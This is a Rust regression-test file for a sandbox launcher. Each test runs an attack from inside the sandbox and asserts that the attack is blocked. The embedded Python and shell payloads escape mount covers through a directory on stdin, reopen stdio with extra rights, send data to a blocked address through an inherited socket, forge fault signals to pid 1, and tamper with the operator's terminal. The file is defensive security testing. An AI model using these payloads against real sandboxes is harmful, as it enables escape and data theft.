//! Attack review 16: the sandbox launcher and its cell, attacked from inside by the
//! command (as the default user and as `--user 0`). Each test performs one attack and
//! asserts the promise holds, so it fails while the attack works; it prints a `figure:`
//! line saying what the attacker got. A test marked `#[ignore = "open: …"]` is a break
//! found and not yet fixed: it fails against the current tree.
//!
//! Everything stays on the machine: the agent runs in the test's own network namespace
//! and no test sends a packet.

use std::{
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
};

use hb_tests::{
    TcpProbe, TestEnv, UdpProbe, agent_bin, private_netns, python, random_suffix,
    sandboxed::{from_terminal, operator_terminal},
    stdout,
};

const CONFIG: &str = r#"
[broker]
socket_mode = "0666"

[[policy]]
name = "open"
"#;

/// The two users every attack runs as: the default one and root.
const USERS: [(&str, &[&str]); 2] = [("default user", &[]), ("--user 0", &["--user", "0"])];

fn start(name: &str) -> TestEnv {
    private_netns(&[]);
    // The state folder in /var/tmp: visible (read-only) inside, like a node's /var/lib/hb,
    // and hidden by a cover.
    let mut env = TestEnv::new_in(Path::new("/var/tmp"), name, CONFIG);
    env.start_agent();
    env
}

/// `hb-agent sandbox run --policy open OPTIONS -- ARGS`, not yet started.
fn sandbox_command(env: &TestEnv, options: &[&str], args: &[&str]) -> Command {
    let mut c = Command::new(agent_bin());
    c.arg("--config")
        .arg(&env.config_path)
        .args(["sandbox", "run", "--policy", "open"])
        .args(options)
        .arg("--")
        .args(args);
    c
}

fn said(out: &Output) -> String {
    format!(
        "{}[exit {:?}; stderr: {}]",
        stdout(out),
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A world-writable host folder under /var/tmp (read-only inside a sandbox), removed on
/// drop with whatever an attack left in it.
struct Scratch(PathBuf);

impl Scratch {
    fn new(tag: &str) -> Self {
        let p = Path::new("/var/tmp").join(format!("hb-test-{tag}-{}", random_suffix()));
        fs::create_dir_all(&p).expect("scratch dir");
        fs::set_permissions(&p, fs::Permissions::from_mode(0o1777)).expect("chmod scratch");
        Self(p)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// Through the directory on fd 3 (the sandbox's stdin, moved): lists the hidden state folder and writes a probe file
/// on the host's (read-write) mount of it. Prints JSON.
const PY_DIR_STDIN: &str = r#"
import json, os, sys
probe, hidden = sys.argv[1], sys.argv[2]
got = {"inside": os.path.exists(hidden + "/hb.toml")}
try:
    got["listed"] = sorted(os.listdir("/proc/self/fd/3" + hidden))
except OSError as e:
    got["listed"] = e.strerror
try:
    with open("/proc/self/fd/3" + probe, "w") as f:
        f.write("written from a sandbox\n")
    got["wrote"] = True
except OSError as e:
    got["wrote"] = e.strerror
print(json.dumps(got))
"#;

/// **A directory on stdin is a way out of the mount namespace.** Only fds 0-2 cross into
/// a sandbox, but the launcher passes them whatever they are. A caller that starts
/// `sandbox run` with a directory as stdin (`< /`, a supervisor's inherited descriptor)
/// hands the command a directory of the host's mount namespace: `/proc/self/fd/0/…`
/// (or `openat(0, …)`) walks the host's tree from there, past every cover (the agent's
/// state folder, `/home`, other tenants) and on the host's read-write mounts, not the
/// sandbox's read-only root. Landlock does not help: the sandbox's ruleset has scopes
/// only, no filesystem rules. On the baseline the default user listed the hidden state
/// folder (hb.toml, broker.sock, the audit log…) and wrote a file on the host.
///
/// Fixed: without `--tty` the launcher refuses a directory (or an `O_PATH` link) as
/// stdin, stdout or stderr before it makes anything.
#[test]
fn a_directory_on_stdin_does_not_open_the_hosts_tree() {
    let env = start("atk16-dirin");
    let scratch = Scratch::new("atk16-dirin");
    let hidden = env.state_dir.to_str().expect("UTF-8 state dir");
    for (user, options) in USERS {
        let probe = scratch.0.join(format!("probe-{}", options.len()));
        let out = sandbox_command(
            &env,
            options,
            &[
                "sh",
                "-c",
                // Python refuses a directory as its stdin: it gets the one on fd 3.
                "exec \"$0\" -c \"$1\" \"$2\" \"$3\" 3<&0 </dev/null",
                python(),
                PY_DIR_STDIN,
                probe.to_str().expect("UTF-8"),
                hidden,
            ],
        )
        .stdin(Stdio::from(fs::File::open("/").expect("open /")))
        .output()
        .expect("sandbox run");
        let text = stdout(&out);
        println!(
            "figure: {user}, stdin a directory (/): {}",
            said(&out).trim()
        );
        assert!(
            !probe.exists(),
            "{user}: the sandbox wrote {} on the host through its stdin: {}",
            probe.display(),
            said(&out)
        );
        assert!(
            !text.contains("hb.toml"),
            "{user}: the sandbox listed the hidden state folder through its stdin: {}",
            said(&out)
        );
    }
}

/// Reads its stdin, reopens its stdout (a file the caller opened to append to) to read it
/// from its start and its stdin (a file the caller opened read-only) to write it, prints
/// JSON on stderr and last echoes its input on stdout.
const PY_REOPEN: &str = r#"
import json, os, sys
data = sys.stdin.read()
got = {}
# Non-blocking: a pipe opened again is the same pipe, which may hold nothing yet.
try:
    fd = os.open("/proc/self/fd/1", os.O_RDONLY | os.O_NONBLOCK)
    try:
        got["read_stdout"] = os.read(fd, 4096).decode()
    except BlockingIOError:
        got["read_stdout"] = "nothing to read"
except OSError as e:
    got["read_stdout"] = e.strerror
try:
    fd = os.open("/proc/self/fd/0", os.O_WRONLY | os.O_NONBLOCK)
    os.write(fd, b"forged")
    got["wrote_stdin"] = True
except OSError as e:
    got["wrote_stdin"] = e.strerror
sys.stderr.write(json.dumps(got) + "\n")
sys.stdout.write("echo: " + data)
"#;

/// **A file on stdin or stdout is reopened with more rights than the caller gave.** The
/// caller appends the sandbox's output to a log in a folder the sandbox does not see (here
/// the agent's state folder, like `/var/log`, both covered), and feeds it an input file
/// read-only. `/proc/self/fd/N` reopens the file itself, on the host's read-write mount:
/// the command reads the whole log — whatever earlier steps wrote there — and rewrites its
/// input, a host file the read-only root should keep from it (writable by its uid on the
/// host, as a user's own files are to the default user).
///
/// On the baseline both users read the log's earlier line and rewrote the input.
///
/// Fixed: a standard descriptor that is a regular file crosses as a pipe the launcher
/// relays (`sandbox::stdio`, as Docker's shim does for every stream); a pipe opened again
/// is only that pipe (and the launcher's, root's 0600, is not the command's to open).
#[test]
fn a_file_on_stdin_or_stdout_is_not_reopened_with_more_rights() {
    let env = start("atk16-reopen");
    let scratch = Scratch::new("atk16-reopen");
    for (user, options) in USERS {
        let log = env.state_dir.join(format!("job-{}.log", options.len()));
        fs::write(&log, "earlier step: the deploy token was tok-123\n").expect("log");
        let input = scratch.0.join(format!("input-{}", options.len()));
        fs::write(&input, "the caller's input\n").expect("input");
        // Writable by every uid on the host (as a user's own file is to that user).
        fs::set_permissions(&input, fs::Permissions::from_mode(0o666)).expect("chmod");
        let out = sandbox_command(&env, options, &[python(), "-c", PY_REOPEN])
            .stdin(Stdio::from(fs::File::open(&input).expect("input")))
            .stdout(Stdio::from(
                fs::OpenOptions::new().append(true).open(&log).expect("log"),
            ))
            .output()
            .expect("sandbox run");
        let stderr = String::from_utf8_lossy(&out.stderr);
        println!(
            "figure: {user}, stdin/stdout files reopened: {}",
            stderr.trim()
        );
        assert!(
            !stderr.contains("tok-123"),
            "{user}: the sandbox read the log it may only append to: {stderr}"
        );
        assert_eq!(
            fs::read_to_string(&input).expect("input"),
            "the caller's input\n",
            "{user}: the sandbox rewrote its read-only input on the host: {stderr}"
        );
        // The streams still work: the input arrived whole, the output was appended.
        assert_eq!(
            fs::read_to_string(&log).expect("log"),
            "earlier step: the deploy token was tok-123\necho: the caller's input\n",
            "{user}: {stderr}"
        );
    }
}

/// Takes the socket on its stdin and aims it at `HOST`: a UDP one sends a datagram there;
/// a TCP one is disconnected (`connect` with `AF_UNSPEC`) and connected there. Prints
/// JSON.
const PY_SOCKET_STDIN: &str = r#"
import ctypes, json, os, socket, sys
host, tport, uport = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
s = socket.socket(fileno=os.dup(0))
got = {"stdin": f"{s.family.name}/{s.type.name}"}
if s.type == socket.SOCK_STREAM:
    libc = ctypes.CDLL(None, use_errno=True)
    unspec = (ctypes.c_ubyte * 16)()
    rc = libc.connect(s.fileno(), unspec, 16)
    got["disconnect"] = rc == 0 or os.strerror(ctypes.get_errno())
    try:
        s.settimeout(3)
        s.connect((host, tport))
        got["connect"] = "connected"
    except OSError as e:
        got["connect"] = e.strerror or str(e)
else:
    try:
        s.sendto(b"stolen", (host, uport))
        got["sendto"] = "sent"
    except OSError as e:
        got["sendto"] = e.strerror
try:
    socket.create_connection((host, tport), timeout=3).close()
    got["own_socket"] = "connected"
except OSError as e:
    got["own_socket"] = e.strerror or str(e)
print(json.dumps(got))
"#;

/// **An Internet socket on stdin is a way past the cgroup hooks.** The kernel judges a
/// socket by the cgroup of the process that made it: one made by the caller (an inetd-style
/// supervisor, a systemd socket unit with `StandardInput=socket`, `Accept=yes`) belongs
/// to the caller's cgroup, not the enrolled sandbox's, so neither the connect/sendmsg
/// hooks nor `cgroup_skb/egress` see what the sandbox does with it. A UDP service socket
/// on stdin sends anywhere; a TCP connection on stdin is dropped with
/// `connect(AF_UNSPEC)` and connected anywhere. Here both reach 10.9.0.1, which the
/// policy does not allow (a socket the sandbox makes itself is refused there: the
/// control). On the baseline both users sent the datagram and connected.
///
/// Fixed: without `--tty` the launcher refuses a socket other than a Unix one as stdin,
/// stdout or stderr (its family read with `SO_DOMAIN`) before it makes anything.
#[test]
fn an_internet_socket_on_stdin_reaches_no_address_the_policy_did_not_allow() {
    private_netns(&["10.9.0.1"]);
    let mut env = TestEnv::new_in(Path::new("/var/tmp"), "atk16-sockin", CONFIG);
    env.start_agent();
    let tcp_sink = TcpProbe::bind("10.9.0.1:0");
    let udp_sink = UdpProbe::bind("10.9.0.1:0");
    let (tport, uport) = (
        tcp_sink.addr.port().to_string(),
        udp_sink.addr.port().to_string(),
    );
    let service = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let mut reports = Vec::new();
    for (user, options) in USERS {
        // A UDP service socket, as inetd hands a `wait` service.
        let udp = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
        // An accepted TCP connection, as inetd or `Accept=yes` hands a `nowait` service.
        let _client =
            std::net::TcpStream::connect(service.local_addr().expect("addr")).expect("connect");
        let (accepted, _) = service.accept().expect("accept");
        let stdins: [(&str, std::os::fd::OwnedFd); 2] =
            [("udp", udp.into()), ("tcp", accepted.into())];
        for (kind, fd) in stdins {
            let out = sandbox_command(
                &env,
                options,
                &[python(), "-c", PY_SOCKET_STDIN, "10.9.0.1", &tport, &uport],
            )
            .stdin(Stdio::from(fd))
            .output()
            .expect("sandbox run");
            let text = stdout(&out);
            println!(
                "figure: {user}, {kind} socket on stdin: {}",
                said(&out).trim()
            );
            reports.push(format!("{user} {kind}: {}", said(&out)));
            assert!(
                !text.contains("\"connected\""),
                "{user}: the sandbox connected to 10.9.0.1 through its stdin: {}",
                said(&out)
            );
        }
    }
    // What a datagram sent needs to arrive (the sandbox's report is not proof for UDP).
    std::thread::sleep(std::time::Duration::from_millis(300));
    println!(
        "figure: 10.9.0.1 accepted {} connection(s), received {} datagram(s)",
        tcp_sink.accepted(),
        udp_sink.received()
    );
    assert_eq!(
        (tcp_sink.accepted(), udp_sink.received()),
        (0, 0),
        "10.9.0.1 heard from a sandbox: {reports:#?}"
    );
}

/// Sends pid 1 a forged SIGSEGV and SIGBUS (`rt_sigqueueinfo`, `SI_QUEUE`, with a fault
/// address of its choosing) and prints pid 1's caught-signal mask before and after.
const PY_FORGED_FAULT: &str = r#"
import ctypes, json, os, signal, struct, time
libc = ctypes.CDLL(None, use_errno=True)
def caught():
    return open("/proc/1/status").read().split("SigCgt:")[1].split()[0]
got = {"before": caught(), "sent": []}
for sig in (signal.SIGSEGV, signal.SIGBUS):
    info = (ctypes.c_ubyte * 128)()
    struct.pack_into("iii", info, 0, sig, 0, -1)  # si_signo, si_errno, si_code = SI_QUEUE
    struct.pack_into("Q", info, 16, 0x7ffffffde000)  # si_addr: a guess at a stack guard
    rc = libc.syscall(129, 1, sig, info)  # rt_sigqueueinfo
    got["sent"].append(rc == 0 or os.strerror(ctypes.get_errno()))
time.sleep(0.2)
got["after"] = caught()
print(json.dumps(got))
"#;

/// **The command reaches the init's fault handlers.** Pid 1 of a pid namespace gets only
/// the signals it has a handler for from inside its namespace — and the init, a copy of
/// the Rust launcher, keeps the runtime's stack-overflow handlers for SIGSEGV and SIGBUS
/// beside the forwarders. `rt_sigqueueinfo(1, SIGSEGV, …)` with a fault address of the
/// command's choosing runs that handler in pid 1: an address in the launcher's stack
/// guard makes the init print "thread 'main' has overflowed its stack" and abort (the
/// sandbox ends as if hb crashed); any other address makes the handler remove itself (the
/// caught mask changes: the proof it ran). One guess per signal, at a randomised stack,
/// so a forged crash report rather than an escape. On the baseline both users' signals
/// ran the handlers (caught mask 0x4e47 before, 0x4a07 after).
///
/// Fixed: the init sets SIGSEGV and SIGBUS back to their default (which the kernel does
/// not deliver to a namespace's init from inside it) beside its forwarders.
#[test]
fn a_forged_fault_signal_runs_no_handler_in_the_init() {
    let env = start("atk16-fault");
    for (user, options) in USERS {
        let out = sandbox_command(&env, options, &[python(), "-c", PY_FORGED_FAULT])
            .stdin(Stdio::null())
            .output()
            .expect("sandbox run");
        let text = stdout(&out);
        println!(
            "figure: {user}, forged SIGSEGV/SIGBUS to pid 1: {}",
            text.trim()
        );
        let got: serde_json::Value = serde_json::from_str(text.trim())
            .unwrap_or_else(|e| panic!("{user}: no JSON ({e}): {}", said(&out)));
        let mask =
            |k: &str| u64::from_str_radix(got[k].as_str().expect("mask"), 16).expect("hex mask");
        let faults = (1 << (libc::SIGSEGV - 1)) | (1 << (libc::SIGBUS - 1));
        assert_eq!(
            (mask("before") & faults, mask("after")),
            (0, mask("before")),
            "{user}: pid 1 handles SIGSEGV/SIGBUS from the command: {}",
            said(&out)
        );
    }
}

/// An x32 `setsockopt` (`__X32_SYSCALL_BIT | 541`, the compat entry the cgroup sockopt
/// program never sees), then a line that only a survivor prints.
const PY_X32: &str = r#"
import ctypes, socket
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one = ctypes.c_int(1)
rc = libc.syscall(0x40000000 | 541, s.fileno(), socket.SOL_IP, 35, ctypes.byref(one), 4)
print("survived the x32 call:", rc, ctypes.get_errno(), flush=True)
"#;

/// Held (kept as a regression test): **an x32 system call.** abi.rs kills 32-bit calls
/// (`int $0x80`, proved by `sockopt`) and x32 ones, which arrive with the native
/// architecture and the x32 bit in the number, so a rule filter keyed on numbers would
/// miss them and the kernel skips cgroup sockopt programs for them. No test made one from
/// a sandbox: it must kill the command (SIGSYS, 128+31) before it returns, as the
/// default user and as root.
#[test]
fn an_x32_system_call_kills_the_command() {
    let env = start("atk16-x32");
    for (user, options) in USERS {
        let out = sandbox_command(&env, options, &[python(), "-c", PY_X32])
            .stdin(Stdio::null())
            .output()
            .expect("sandbox run");
        println!("figure: {user}, x32 setsockopt: {}", said(&out).trim());
        assert!(
            !stdout(&out).contains("survived") && out.status.code() == Some(128 + 31),
            "{user}: an x32 system call returned in a sandbox: {}",
            said(&out)
        );
    }
}

/// Against each covered folder: lists it, stats its owner and mode, and tries to create a
/// file in it, chmod it and make a folder in it. Prints one line per folder.
const SH_COVERS: &str = r#"
for d in "$@"; do
  [ -d "$d" ] || { echo "$d absent"; continue; }
  r="$d: [$(ls -A "$d" 2>&1 | tr '\n' ' ')] owner $(stat -c '%u %a' "$d")"
  touch "$d/hb-probe" 2>/dev/null && r="$r WROTE"
  mkdir "$d/hb-probe-dir" 2>/dev/null && r="$r MKDIR"
  chmod 777 "$d" 2>/dev/null && r="$r CHMOD"
  echo "$r"
done
"#;

/// Held (kept as a regression test): **the one read-only tmpfs behind every cover.**
/// Hidden folders (`/root`, `/home`, `/var/log`…) share a single empty tmpfs, made
/// read-only (the agent's state folder, which holds the broker socket's mount point, gets
/// one of its own); for `--user 0` it is made by the init as root of
/// the sandbox's user namespace, so the command owns it. Nothing of the host shows
/// through it, and no file, folder or mode change can be made in it (one write would
/// show in every cover at once, a channel between paths the command should not have).
#[test]
fn the_shared_cover_of_hidden_folders_shows_nothing_and_takes_nothing() {
    let env = start("atk16-cover");
    let state = env.state_dir.to_str().expect("UTF-8 state dir").to_owned();
    for (user, options) in USERS {
        let args = [
            "sh", "-c", SH_COVERS, "sh", &state, "/root", "/home", "/var/log",
        ];
        let out = sandbox_command(&env, options, &args)
            .stdin(Stdio::null())
            .output()
            .expect("sandbox run");
        let text = stdout(&out);
        println!(
            "figure: {user}, covers: {}",
            text.trim().replace('\n', " | ")
        );
        let covered: Vec<&str> = text.lines().filter(|l| !l.ends_with("absent")).collect();
        assert!(
            covered.iter().any(|l| l.starts_with(&state)),
            "{user}: the state folder was not examined: {}",
            said(&out)
        );
        for line in covered {
            // The state folder holds the broker's socket, bound in at its path.
            let shown = if line.starts_with(&state) {
                ": [broker.sock ] owner "
            } else {
                ": [] owner "
            };
            assert!(
                line.contains(shown)
                    && !line.contains("WROTE")
                    && !line.contains("MKDIR")
                    && !line.contains("CHMOD"),
                "{user}: a cover showed or took something: {line} ({})",
                said(&out)
            );
        }
    }
}

/// Sets the line discipline of the terminal on its stdin to N_NULL (27, which discards
/// input and output); prints OK or the errno's name.
const PY_TIOCSETD: &str = r#"
import errno, fcntl, struct, termios
try:
    fcntl.ioctl(0, termios.TIOCSETD, struct.pack("i", 27))
    print("OK")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
"#;

/// **The command changes the line discipline of the operator's terminal.** Without
/// `--tty`, a command started from a shell has the operator's terminal on stdin. It has
/// no controlling terminal, so TIOCSTI is refused — but `TIOCSETD` needs neither (the
/// kernel's `tty_check_change` lets a process whose controlling terminal it is not go
/// ahead): set to N_NULL the operator's terminal drops every keystroke and every byte of
/// output once the sandbox has ended (a dead shell), and any other number asks the kernel
/// to load that line discipline's module (`dev.tty.ldisc_autoload = 1` here, the default):
/// n_hdlc, n_gsm, slip, ppp — the line disciplines behind several kernel privilege
/// escalations — loaded and reachable on a command's word, from its own pseudo-terminals
/// too. On the baseline the default user's `TIOCSETD` said OK and left the terminal on
/// N_NULL (27).
///
/// Fixed: the seccomp filter refuses (and reports) `ioctl(…, TIOCSETD, …)` like TIOCSTI.
#[test]
fn a_sandbox_cannot_change_the_line_discipline_of_the_operators_terminal() {
    let env = start("atk16-ldisc");
    let (_master, slave) = operator_terminal(None);
    let ldisc = || {
        let mut d: libc::c_int = -1;
        // SAFETY: TIOCGETD writes the line discipline's number into the local.
        unsafe {
            libc::ioctl(
                std::os::fd::AsRawFd::as_raw_fd(&slave),
                libc::TIOCGETD,
                &mut d,
            )
        };
        d
    };
    assert_eq!(ldisc(), 0, "the terminal starts with N_TTY");
    for (user, options) in USERS {
        let mut cmd = sandbox_command(&env, options, &[python(), "-c", PY_TIOCSETD]);
        from_terminal(&mut cmd, &slave);
        let out = cmd.output().expect("sandbox run");
        let after = ldisc();
        println!(
            "figure: {user}, TIOCSETD N_NULL on the operator's terminal: {} (line discipline now {after})",
            said(&out).trim()
        );
        assert_eq!(
            after,
            0,
            "{user}: the sandbox set the operator's terminal's line discipline to {after}: {}",
            said(&out)
        );
    }
}

/// Prints the command's scheduling policy and nice value, and whether it can take
/// `SCHED_FIFO` again.
const PY_SCHEDULING: &str = r#"
import os
try:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
    again = "granted"
except OSError as e:
    again = "refused"
print(f"policy {os.sched_getscheduler(0)} nice {os.getpriority(os.PRIO_PROCESS, 0)} fifo {again}")
"#;

/// **Real-time scheduling from the caller.** A launcher started under `chrt -f 10` (or
/// `nice -n -5`) passed its policy and nice value through the clone: the command ran as
/// `SCHED_FIFO`, which no `cpu.max` bounds (a busy loop starves the node's other tasks on
/// its CPU), or above the node's services. The init leaves real-time scheduling and a
/// negative nice value, and lowers `RLIMIT_RTPRIO`/`RLIMIT_NICE` to 0, before anything
/// else.
#[test]
fn real_time_scheduling_does_not_cross_from_the_caller() {
    let env = start("atk16-sched");
    for (user, options) in USERS {
        let mut cmd = sandbox_command(&env, options, &[python(), "-c", PY_SCHEDULING]);
        // SAFETY: sched_setscheduler(2) and setpriority(2) in the child before exec;
        // async-signal-safe.
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(&mut cmd, || {
                let fifo = libc::sched_param { sched_priority: 10 };
                if libc::sched_setscheduler(0, libc::SCHED_FIFO, &fifo) != 0
                    || libc::setpriority(libc::PRIO_PROCESS, 0, -5) != 0
                {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let out = cmd.stdin(Stdio::null()).output().expect("sandbox run");
        println!("figure: {user}: {}", said(&out).trim());
        assert!(
            stdout(&out).contains(&format!("policy {} nice 0 fifo refused", libc::SCHED_OTHER)),
            "{user}: the caller's real-time policy or priority crossed into the sandbox: {}",
            said(&out)
        );
    }
}

/// The host pids of the children `pid`'s main thread made.
fn children(pid: u32) -> Vec<u32> {
    fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
        .unwrap_or_default()
        .split_whitespace()
        .filter_map(|p| p.parse().ok())
        .collect()
}

/// A copy of descriptor `fd` of process `pid`, taken as a host process of the sandbox's
/// uid can take it from the (dumpable) command: `pidfd_open` + `pidfd_getfd`.
fn take_descriptor(pid: u32, fd: i32) -> std::os::fd::OwnedFd {
    use std::os::fd::FromRawFd as _;
    // SAFETY: pidfd_open(2) and pidfd_getfd(2) with integer arguments; each returns a new
    // descriptor this test owns, checked below.
    unsafe {
        let pidfd = libc::syscall(libc::SYS_pidfd_open, pid, 0);
        assert!(
            pidfd >= 0,
            "pidfd_open: {}",
            std::io::Error::last_os_error()
        );
        let pidfd = std::os::fd::OwnedFd::from_raw_fd(pidfd as i32);
        let copy = libc::syscall(
            libc::SYS_pidfd_getfd,
            std::os::fd::AsRawFd::as_raw_fd(&pidfd),
            fd,
            0,
        );
        assert!(
            copy >= 0,
            "pidfd_getfd: {}",
            std::io::Error::last_os_error()
        );
        std::os::fd::OwnedFd::from_raw_fd(copy as i32)
    }
}

/// **A process outside holding the command's stream.** The launcher relays a stdout that
/// is a regular file through a pipe, and a `--tty` command's terminal through a
/// pseudo-terminal; it waited for the end of the stream, which is the last writer (the
/// last holder of the slave) closing it. A host process of the command's uid takes the
/// command's stdout with `pidfd_getfd` and holds it: the command and the whole sandbox
/// end, and the launcher never does (its caller's pipeline hangs with it).
///
/// On the baseline the launcher was still running 30 s after its command ended, in both
/// modes.
///
/// Fixed: once the sandbox is gone the relays copy what the pipe or the terminal holds at
/// that moment, and end (`sandbox::stdio::Running::finish`, `tty::Relay::finish`).
#[test]
fn a_process_outside_holding_the_commands_stream_does_not_keep_the_launcher_running() {
    let env = start("atk16-hold");
    let scratch = Scratch::new("atk16-hold");
    for (mode, options) in [("--tty", &["--tty"][..]), ("relayed pipe", &[][..])] {
        let out_path = scratch.0.join(format!("out-{}", options.len()));
        let mut launcher = sandbox_command(
            &env,
            options,
            &["sh", "-c", "echo before; sleep 2; echo after"],
        )
        .stdin(Stdio::null())
        .stdout(Stdio::from(
            fs::File::create(&out_path).expect("output file"),
        ))
        .stderr(Stdio::null())
        .spawn()
        .expect("sandbox run");
        // The command: the child of the sandbox's init (the launcher's child).
        let mut command = None;
        let found = hb_tests::kube::wait_until(std::time::Duration::from_secs(20), || {
            command = children(launcher.id())
                .first()
                .and_then(|init| children(*init).first().copied());
            command.is_some()
        });
        assert!(found, "{mode}: the command never started");
        let held = take_descriptor(command.expect("command"), 1);
        let ended = hb_tests::kube::wait_until(std::time::Duration::from_secs(30), || {
            launcher.try_wait().ok().flatten().is_some()
        });
        if !ended {
            let _ = launcher.kill();
            let _ = launcher.wait();
        }
        drop(held);
        let output = fs::read_to_string(&out_path).unwrap_or_default();
        println!(
            "figure: {mode}, a host process holding the command's stdout: the launcher {}; output {output:?}",
            if ended {
                "ended"
            } else {
                "was still running 30 s after its command ended"
            }
        );
        assert!(
            ended,
            "{mode}: a process outside the sandbox kept the launcher running"
        );
        assert!(
            output.contains("before") && output.contains("after"),
            "{mode}: the command's output was not relayed whole: {output:?}"
        );
    }
}

/// Changes its stdin, the operator's terminal: echo off, exclusive (no one else may open
/// it), a 1×1 window, output stopped. Prints what it managed.
const PY_TERMINAL: &str = r#"
import fcntl, struct, termios
done = []
mode = termios.tcgetattr(0)
mode[3] &= ~termios.ECHO
termios.tcsetattr(0, termios.TCSANOW, mode); done.append("echo off")
fcntl.ioctl(0, termios.TIOCEXCL); done.append("exclusive")
fcntl.ioctl(0, termios.TIOCSWINSZ, struct.pack("HHHH", 1, 1, 0, 0)); done.append("1x1")
termios.tcflow(0, termios.TCOOFF); done.append("output stopped")
print(", ".join(done))
"#;

/// **The operator's terminal after the run.** Without `--tty` a terminal on 0–2 crosses
/// in as it is (the command may use it: a prompt, a password read). The command turned
/// its echo off, made it exclusive and stopped its output (and shrank its window), and
/// all of it outlived the sandbox: the operator's shell got back a terminal that showed nothing
/// typed, printed nothing, and that no other program (`sudo`, `ssh` asking for a
/// password on /dev/tty) could open.
///
/// On the baseline, after the run: echo off, exclusive, 1×1, output stopped.
///
/// Fixed: the launcher saves the state of the caller's terminals on 0–2 and puts it back
/// once the sandbox is gone (`sandbox::tty::CallerTerminals`) — but the window size,
/// which the operator may have changed meanwhile (printed, not asserted).
#[test]
fn what_the_command_does_to_the_operators_terminal_does_not_outlive_it() {
    use std::os::fd::AsRawFd as _;
    let env = start("atk16-term");
    for (user, options) in USERS {
        let (master, slave) = operator_terminal(Some(libc::winsize {
            ws_row: 24,
            ws_col: 80,
            ws_xpixel: 0,
            ws_ypixel: 0,
        }));
        let mut cmd = sandbox_command(&env, options, &[python(), "-c", PY_TERMINAL]);
        from_terminal(&mut cmd, &slave);
        let out = cmd.output().expect("sandbox run");
        let fd = slave.as_raw_fd();
        // SAFETY: termios, winsize and an int filled by ioctls on the test's own slave;
        // fcntl and write(2) on it; poll(2) and read(2) on the test's own master.
        let (echo, exclusive, window, flowing) = unsafe {
            let mut mode: libc::termios = std::mem::zeroed();
            libc::tcgetattr(fd, &mut mode);
            let mut excl: libc::c_int = 0;
            libc::ioctl(fd, libc::TIOCGEXCL, &mut excl);
            let mut now: libc::winsize = std::mem::zeroed();
            libc::ioctl(fd, libc::TIOCGWINSZ, &mut now);
            // Output flows when a byte written to the slave reaches the master.
            let flags = libc::fcntl(fd, libc::F_GETFL);
            libc::fcntl(fd, libc::F_SETFL, flags | libc::O_NONBLOCK);
            let wrote = libc::write(fd, b"x".as_ptr().cast(), 1) == 1;
            let mut poll = libc::pollfd {
                fd: master.as_raw_fd(),
                events: libc::POLLIN,
                revents: 0,
            };
            let mut got = [0u8; 16];
            let read = wrote
                && libc::poll(&mut poll, 1, 2000) == 1
                && libc::read(master.as_raw_fd(), got.as_mut_ptr().cast(), got.len()) > 0;
            (
                mode.c_lflag & libc::ECHO != 0,
                excl != 0,
                (now.ws_row, now.ws_col),
                read,
            )
        };
        println!(
            "figure: {user}, the command did: {}; after the run: echo {}, exclusive {exclusive}, window {window:?}, output flowing {flowing}",
            stdout(&out).trim(),
            if echo { "on" } else { "off" },
        );
        assert!(
            stdout(&out).contains("output stopped"),
            "{user}: the command could not reach its terminal: {}",
            said(&out)
        );
        assert!(
            echo,
            "{user}: the operator's terminal was left without echo"
        );
        assert!(
            !exclusive,
            "{user}: the operator's terminal was left exclusive"
        );
        assert!(
            flowing,
            "{user}: the operator's terminal was left with its output stopped"
        );
    }
}
